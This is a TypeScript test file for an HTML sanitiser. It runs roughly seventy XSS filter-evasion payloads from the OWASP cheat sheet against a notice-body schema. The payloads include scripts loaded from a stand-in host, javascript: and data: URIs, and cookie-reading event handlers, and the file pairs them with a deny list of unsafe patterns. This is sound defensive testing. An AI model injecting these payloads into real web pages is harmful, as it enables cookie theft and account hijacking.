import { describe, expect, it } from 'vitest';
import { noticeAddInput } from '../../lib/contract/content';
import { contentFileId, contentFileIds } from '../../lib/contract/content-rules';

/**
 * The notice and help body as the service takes it (the `body` field of businessIssueInfo/add
 * and businessHelpInfo/add): known XSS payloads, by the categories of the OWASP XSS Filter
 * Evasion Cheat Sheet, each leave nothing that runs, loads from elsewhere or hides content.
 */
const bodyOf = (html: string) => {
  const result = noticeAddInput.shape.body.safeParse(`<p>text</p>${html}`);
  if (!result.success) throw new Error(`refused: ${result.error.issues[0]?.message}`);
  return result.data;
};

/** What may never come out: script, handlers, frames, plugins, forms, styles, dangerous schemes, images not uploaded here. */
const UNSAFE = [
  /<script/i, /<iframe/i, /<frame/i, /<object/i, /<embed/i, /<applet/i, /<svg/i, /<math/i, /<form/i, /<input/i, /<button/i, /<meta/i,
  /<link/i, /<base/i, /<style/i, /<video/i, /<audio/i, /<source/i, /<marquee/i, /<details/i, /<template/i, /<textarea/i,
  /\son[a-z]+\s*=/i, /\sstyle\s*=/i, /\sclass\s*=/i, /\sid\s*=/i, /srcdoc/i, /formaction/i, /xlink/i, /javascript:/i, /vbscript:/i, /livescript:/i, /data:/i,
  /expression\s*\(/i, /-moz-binding/i, /<img(?![^>]*src="\/api\/ueditor-file\/file\?id=\d+")/i,
];

const PAYLOADS: [category: string, payload: string][] = [
  ['basic script', '<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>'],
  ['polyglot', 'javascript:/*--></title></style></textarea></script></xmp><svg/onload=\'+/"/+/onmouseover=1/+/[*/[]/+alert(1)//\'>'],
  ['image javascript directive', '<IMG SRC="javascript:alert(\'XSS\');">'],
  ['no quotes or semicolon', '<IMG SRC=javascript:alert(\'XSS\')>'],
  ['case insensitive', '<IMG SRC=JaVaScRiPt:alert(\'XSS\')>'],
  ['html entities', '<IMG SRC=javascript:alert(&quot;XSS&quot;)>'],
  ['grave accent', '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>'],
  ['malformed a tag', '<a onmouseover="alert(document.cookie)">xxs link</a>'],
  ['malformed img', '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>'],
  ['fromCharCode', '<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>'],
  ['default src onerror', '<IMG SRC=# onmouseover="alert(\'xxs\')">'],
  ['empty src onerror', '<IMG SRC= onmouseover="alert(\'xxs\')">'],
  ['on error alert', '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>'],
  ['decimal references', '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>'],
  ['decimal without semicolons', '<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>'],
  ['hex without semicolons', '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>'],
  ['embedded tab', '<IMG SRC="jav\tascript:alert(\'XSS\');">'],
  ['embedded encoded tab', '<IMG SRC="jav&#x09;ascript:alert(\'XSS\');">'],
  ['embedded newline', '<IMG SRC="jav&#x0A;ascript:alert(\'XSS\');">'],
  ['null breaks up javascript', '<a href="java&#0;script:alert(1)">x</a>'],
  ['spaces and meta before javascript', '<IMG SRC=" &#14;  javascript:alert(\'XSS\');">'],
  ['non-alpha-non-digit', '<SCRIPT/XSS SRC="https://xss.example/xss.js"></SCRIPT>'],
  ['body onload', '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>'],
  ['extraneous open brackets', '<<SCRIPT>alert("XSS");//\\<</SCRIPT>'],
  ['no closing script tag', '<SCRIPT SRC=https://xss.example/xss.js?< B >'],
  ['protocol resolution in script', '<SCRIPT SRC=//xss.example/.j>'],
  ['half open html', '<IMG SRC="`<javascript:alert>`(\'XSS\')"'],
  ['end title tag', '</TITLE><SCRIPT>alert("XSS");</SCRIPT>'],
  ['input image', '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">'],
  ['body image', '<BODY BACKGROUND="javascript:alert(\'XSS\')">'],
  ['img dynsrc', '<IMG DYNSRC="javascript:alert(\'XSS\')">'],
  ['img lowsrc', '<IMG LOWSRC="javascript:alert(\'XSS\')">'],
  ['list-style-image', '<STYLE>li {list-style-image: url("javascript:alert(\'XSS\')");}</STYLE><UL><LI>XSS</br>'],
  ['vbscript in image', '<IMG SRC=\'vbscript:msgbox("XSS")\'>'],
  ['svg object tag', '<svg/onload=alert(\'XSS\')>'],
  ['livescript', '<IMG SRC="livescript:[code]">'],
  ['body tag', '<BODY ONLOAD=alert(\'XSS\')>'],
  ['bgsound', '<BGSOUND SRC="javascript:alert(\'XSS\');">'],
  ['link stylesheet', '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">'],
  ['remote style sheet', '<STYLE>@import\'https://xss.example/xss.css\';</STYLE>'],
  ['meta refresh', '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">'],
  ['meta data url', '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">'],
  ['iframe', '<IFRAME SRC="javascript:alert(\'XSS\');"></IFRAME>'],
  ['iframe event based', '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>'],
  ['frameset', '<FRAMESET><FRAME SRC="javascript:alert(\'XSS\');"></FRAMESET>'],
  ['table background', '<TABLE BACKGROUND="javascript:alert(\'XSS\')">'],
  ['td background', '<TABLE><TD BACKGROUND="javascript:alert(\'XSS\')">'],
  ['div background-image', '<DIV STYLE="background-image: url(javascript:alert(\'XSS\'))">'],
  ['div expression', '<DIV STYLE="width: expression(alert(\'XSS\'));">'],
  ['style hiding content', '<p style="display:none">hidden</p><p style="position:absolute;left:-9999px">off screen</p>'],
  ['img style with expression', '<IMG STYLE="xss:expr/*XSS*/ession(alert(\'XSS\'))">'],
  ['style tag with broken javascript', '<STYLE>@im\\port\'\\ja\\vasc\\ript:alert("XSS")\';</STYLE>'],
  ['anonymous html with style', '<XSS STYLE="behavior: url(xss.htc);">'],
  ['base tag', '<BASE HREF="javascript:alert(\'XSS\');//">'],
  ['object tag', '<OBJECT TYPE="text/x-scriptlet" DATA="https://xss.example/scriptlet.html"></OBJECT>'],
  ['embed svg', '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>'],
  ['xml data island', '<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert(\'XSS\')"></B></I></XML>'],
  ['data url image', '<img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==">'],
  ['image from elsewhere', '<img src="https://xss.example/track.png"><img src="/uploads/not-here.png">'],
  ['look-alike upload address', '<img src="/api/ueditor-file/file?id=1&x=javascript:alert(1)"><img src="/api/ueditor-file/file?id=1 onerror=alert(1)">'],
  ['downlevel-hidden block', '<!--[if gte IE 4]><SCRIPT>alert(\'XSS\');</SCRIPT><![endif]-->'],
  ['assuming you can only fit in a few characters', '<a href="javascript:alert(1)">a</a><a href="JAVASCRIPT:alert(1)">b</a>'],
  ['url string evasion', '<A HREF="//xss.example">XSS</A><A HREF="data:text/html,<script>alert(1)</script>">d</A>'],
  ['details ontoggle', '<details open ontoggle=alert(1)>'],
  ['marquee', '<marquee onstart=alert(1)>x</marquee>'],
  ['form action', '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">x</button></form>'],
  ['audio and video', '<audio src=x onerror=alert(1)></audio><video><source onerror="alert(1)"></video>'],
  ['template and noscript', '<template><img src=x onerror=alert(1)></template><noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
  ['mutation via math', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'],
];

describe('the body of a notice or help template (its field schema sanitises on every save)', () => {
  it('is tried against at least 30 known payloads', () => {
    expect(PAYLOADS.length).toBeGreaterThanOrEqual(30);
    expect(new Set(PAYLOADS.map(([category]) => category)).size).toBe(PAYLOADS.length);
  });

  it.each(PAYLOADS)('strips %s', (_category, payload) => {
    const clean = bodyOf(payload);
    // Only markup can run: text is escaped (a '<' in it is '&lt;'), so the tags are what is checked.
    const markup = (clean.match(/<[^>]*>/g) ?? []).join(' ');
    for (const pattern of UNSAFE) expect(markup, String(pattern)).not.toMatch(pattern);
    expect(clean.replace(/<[^>]*>/g, '')).not.toMatch(/[<>]/);
    // Stable: what is stored comes out the same when it is saved again.
    expect(bodyOf(clean.replace(/^<p>text<\/p>/, ''))).toBe(clean);
  });

  it('keeps what the editor writes: headings, bold, lists, links, tables, uploaded images and attachments', () => {
    const html = '<h2>申请条件</h2><p><strong>重点</strong></p><ul><li><p>一</p></li></ul><ol><li><p>二</p></li></ol>'
      + '<table><tbody><tr><th colspan="1" rowspan="1"><p>项</p></th></tr><tr><td colspan="1" rowspan="1"><p>值</p></td></tr></tbody></table>'
      + '<p><img src="/api/ueditor-file/file?id=12" alt="流程图" /></p><p><a href="/api/ueditor-file/file?id=13">申请表.pdf</a> <a href="https://www.example.gov.cn/a">政策原文</a></p>';
    expect(bodyOf(html)).toBe(`<p>text</p>${html}`);
    expect(contentFileIds(bodyOf(html))).toEqual([12, 13]);
  });

  it('takes only the address form of an uploaded file as one', () => {
    expect(contentFileId('/api/ueditor-file/file?id=7')).toBe(7);
    for (const other of ['/api/ueditor-file/file?id=07', '/api/ueditor-file/file?id=7&x=1', 'https://evil.example/api/ueditor-file/file?id=7', '/api/upload/file?id=7', '']) {
      expect(contentFileId(other), other).toBeNull();
    }
  });
});
